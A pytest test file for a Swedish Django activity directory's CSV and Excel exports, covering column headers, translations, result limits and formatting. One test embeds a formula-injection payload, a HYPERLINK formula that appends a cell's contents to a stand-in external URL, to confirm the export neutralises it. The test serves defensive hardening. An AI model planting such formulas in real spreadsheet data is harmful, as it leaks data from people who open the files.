"""CSV and XLSX downloads of a finder search, read back from the real responses: columns,
Swedish and English, the limit, formula injection. (That they list exactly the finder page's
results is tested on the demo in ``web/tests/test_demo_downloads.py``.)"""

from __future__ import annotations

from datetime import date

import pytest
from django.urls import reverse

from sammanhang.directory import services
from sammanhang.interop import tabular_export
from sammanhang.interop.tests.downloads import read_csv, read_xlsx

pytestmark = pytest.mark.django_db
HEADER_SV = [
    "Rubrik",
    "Arrangör",
    "Plats",
    "Adress",
    "Stadsdel",
    "Nästa tillfällen",
    "Dagar och tider",
    "Gratis",
    "Pris",
    "Ledsagare går gratis",
    "Drop-in",
    "Målgrupper",
    "Kategorier",
    "Ålder",
    "Språk",
    "Kontakt",
    "Webbadress",
]


@pytest.fixture(autouse=True)
def _fixed_now(settings):
    settings.SAMMANHANG_FIXED_NOW = "2026-11-24T12:00"


def test_csv_columns_in_swedish_with_every_fact_spelt_out(client, directory):
    schedule = directory["activities"]["kvallsfika"].schedules.get()
    services.schedule_exception_add(
        actor=None, schedule=schedule, kind="cancelled", day=date(2026, 12, 1), reason="Stängt"
    )
    place = directory["places"]["soder"]
    place.street_address, place.postal_code, place.city = "Södergatan 1", "252 25", "Helsingborg"
    place.save()

    response = client.get(reverse("interop:finder_csv"), {"category": "motesplats"})
    rows = read_csv(response)

    assert rows[0] == HEADER_SV
    assert len(rows) == 2
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row == {
        "Rubrik": "Kvällsfika",
        "Arrangör": "Mötesplatsföreningen",
        "Plats": "Söderhuset",
        "Adress": "Södergatan 1, 252 25 Helsingborg",
        "Stadsdel": "Söder",
        "Nästa tillfällen": (
            "tisdag 24 november 2026 17:00–19:00, Söderhuset; "
            "Inställt: tisdag 1 december 2026 17:00–19:00, Söderhuset – Stängt; "
            "tisdag 8 december 2026 17:00–19:00, Söderhuset"
        ),
        "Dagar och tider": "tisdagar 17:00–19:00",
        "Gratis": "Ja",
        "Pris": "",
        "Ledsagare går gratis": "Ja",
        "Drop-in": "Ja",
        "Målgrupper": "Personer med psykisk funktionsnedsättning eller psykisk ohälsa",
        "Kategorier": "Mötesplats och gemenskap",
        "Ålder": "",
        "Språk": "arabiska, svenska",
        "Kontakt": "",
        "Webbadress": "http://testserver/aktiviteter/kvallsfika/",
    }
    assert response["Content-Disposition"] == 'attachment; filename="aktiviteter-2026-11-24.csv"'
    assert response["X-Result-Count"] == "1"
    assert response["X-Result-Cut"] == "false"


def test_paid_activity_columns(client, directory):
    rows = read_csv(client.get(reverse("interop:finder_csv"), {"target_group": "aldre"}))

    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["Rubrik"], row["Gratis"], row["Pris"]) == ("Dagcafé", "Nej", "20 kr")
    assert (row["Ledsagare går gratis"], row["Drop-in"]) == ("Nej", "Nej")
    assert row["Ålder"] == "Från 65 år"
    assert row["Dagar och tider"] == (
        "måndagar, tisdagar, onsdagar, torsdagar och fredagar 10:00–14:00"
    )


def test_a_long_list_is_cut_at_the_limit_and_says_so(client, directory, monkeypatch):
    monkeypatch.setattr(tabular_export, "EXPORT_LIMIT", 2)

    response = client.get(reverse("interop:finder_csv"))
    assert len(read_csv(response)) == 3
    assert (response["X-Result-Count"], response["X-Result-Cut"]) == ("2", "true")

    rows, workbook = read_xlsx(client.get(reverse("interop:finder_xlsx")))
    assert len(rows) == 3
    about = {row[0].value: row[1].value for row in workbook.worksheets[1].iter_rows()}
    assert about["Aktiviteter"] == "2"
    assert about["Obs"] == (
        "Listan innehåller de första 2 aktiviteterna i sökningen. Välj fler filter "
        "för en kortare lista."
    )
    assert about["Sökning"] == "http://testserver/aktiviteter/"


def test_the_finder_page_says_the_limit_beside_its_links(client, directory):
    html = client.get(reverse("directory:finder"), {"free": "on"}).content.decode()

    assert '<a href="/aktiviteter/lista.csv?free=on" type="text/csv">Ladda ner som CSV</a>' in html
    assert '<a href="/aktiviteter/lista.xlsx?free=on"' in html
    assert ">Ladda ner som Excel</a>" in html
    assert "högst 5\xa0000 aktiviteter" in html


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_cells_that_a_spreadsheet_would_run_are_defused(client, directory, start):
    activity = directory["activities"]["kvallsfika"]
    formula = f'{start}HYPERLINK("http://example.com/?"&A1,"Klicka")'
    activity.title = formula
    activity.contact_phone = "+46 42 10 50 00"
    activity.save(update_fields=["title", "contact_phone"])
    query = {"category": "motesplats"}

    rows = read_csv(client.get(reverse("interop:finder_csv"), query))
    assert rows[1][0] == "'" + formula

    xlsx_rows, workbook = read_xlsx(client.get(reverse("interop:finder_xlsx"), query))
    cell = workbook.worksheets[0]["A2"]
    # Stored as text, never as a formula: the value is the provider's text unchanged.
    assert cell.data_type == "s"
    # (XML keeps a lone carriage return as a line break.)
    assert cell.value == formula.replace("\r", "\n")
    assert xlsx_rows[1][15] == "+46 42 10 50 00"


def test_the_workbook_has_a_bold_frozen_header_and_set_widths(client, directory):
    _rows, workbook = read_xlsx(client.get(reverse("interop:finder_xlsx")))
    sheet = workbook.worksheets[0]

    assert sheet.title == "Aktiviteter"
    assert [cell.value for cell in sheet[1]] == HEADER_SV
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 30
    assert sheet.max_row == 4  # the three published activities; the draft is not listed


def test_english_under_en(client, directory):
    rows = read_csv(client.get("/en" + reverse("interop:finder_csv"), {"target_group": "aldre"}))

    assert rows[0][:3] == ["Title", "Organiser", "Place"]
    assert rows[0][-1] == "Web address"
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["Free"] == "No"
    assert row["Days and times"].startswith("Mondays, Tuesdays")
    assert row["Web address"] == "http://testserver/en/aktiviteter/dagcafe/"


def test_a_search_with_errors_is_refused_with_the_reason(client, directory):
    response = client.get(reverse("interop:finder_csv"), {"age": "tio"})

    assert response.status_code == 400
    assert response.content.decode() == (
        "Sökningen har fel. Öppna den på söksidan för att rätta dem.\n"
        "Skriv en ålder i hela år, till exempel 34."
    )
